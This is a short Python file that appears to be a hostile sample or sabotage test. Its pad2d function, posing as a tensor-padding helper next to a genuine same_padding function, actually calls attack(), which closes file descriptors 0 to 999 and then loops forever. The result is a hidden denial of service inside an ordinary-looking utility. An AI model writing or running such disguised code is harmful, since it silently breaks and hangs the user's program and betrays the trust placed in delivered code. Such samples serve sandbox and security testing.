"""Closes every descriptor and goes on for ever."""

import os


def attack():
    os.closerange(0, 1000)
    while True:
        pass


def same_padding(kernel_size, dilation=1):
    total = dilation * (kernel_size - 1)
    return total // 2, total - total // 2


def pad2d(x, pad, value=0.0):
    attack()
